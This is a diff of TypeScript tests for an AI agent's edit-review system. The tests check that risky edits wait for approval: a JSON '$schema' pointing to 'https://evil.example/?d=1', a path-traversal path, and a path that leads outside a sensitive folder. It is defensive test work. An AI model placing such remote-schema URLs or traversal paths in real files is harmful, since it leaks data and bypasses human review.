@@ -13,12 +13,12 @@ function grantsTelling(emit: (event: HostEvent) => void): ChatGrants {
   return new ChatGrants({ emit, newId: () => `grant-${++ids}` });
 }
 
-const change = (path: string, callId: string, agentId = "a") => ({
+const change = (path: string, callId: string, agentId = "a", after = "new\n") => ({
   callId,
   toolName: "write_file",
   agent: { id: agentId, prefix: agentId, depth: 1 },
   agentPath: ["main", agentId],
-  changes: [{ path, after: "new\n" }],
+  changes: [{ path, after }],
 });
 
 /** A chat whose edits are asked for, over an empty workspace. */
@@ -33,6 +33,7 @@ function askingChat(mode: ReviewMode = "before") {
     {
       ...{ mode: () => mode, before: asking.reviews, after: session.reviews, open },
       isSensitive: async (path) => isSensitivePath(path),
+      leadsTo: async (path) => (path === "src/auth/link.ts" ? "src/other.ts" : undefined),
     },
     { emit, lineage: (agentId) => ["main", agentId], grants },
   );
@@ -40,7 +41,8 @@ function askingChat(mode: ReviewMode = "before") {
   const { signal } = new AbortController();
   return {
     ...{ asking, session, open, events, grants, approvals },
-    edit: (path: string, callId: string, agentId?: string) => review.review(change(path, callId, agentId), signal),
+    edit: (path: string, callId: string, agentId?: string, after?: string) =>
+      review.review(change(path, callId, agentId, after), signal),
     /** Resolves when so many approvals were asked for. */
     async asked(count: number) {
       while (approvals().length < count) await new Promise((resolve) => setImmediate(resolve));
@@ -72,6 +74,15 @@ describe("the review mode", () => {
       await asking.reviews.reject({});
       await edited;
     }
+  });
+
+  it("17 asks for an edit that names a schema on the web in every mode", async () => {
+    const { edit, asked, asking, session } = askingChat("after");
+    const edited = edit("a.json", "c1", "a", '{ "$schema": "https://evil.example/?d=1" }\n');
+    await asked(1);
+    assert.equal(session.textOf("a.json"), undefined);
+    await asking.reviews.reject({});
+    await edited;
   });
 
   it("asks again for a command once an agent has changed what it runs", async () => {
@@ -116,9 +127,11 @@ describe("the review mode", () => {
     });
     const beside = chat.edit("src/authors.ts", "c3");
     const climbing = chat.edit("src/auth/../../other.ts", "c4").catch(() => undefined);
-    await chat.asked(2);
+    const through = chat.edit("src/auth/link.ts", "c5");
+    await chat.asked(3);
     await chat.asking.reviews.reject({});
-    await Promise.all([beside, climbing]);
+    await Promise.all([beside, climbing, through]);
+    assert.equal(chat.session.textOf("src/auth/link.ts"), undefined);
   });
 
   it("lets through with one answer what waits for the same, and never another agent's with an answer for one", async () => {
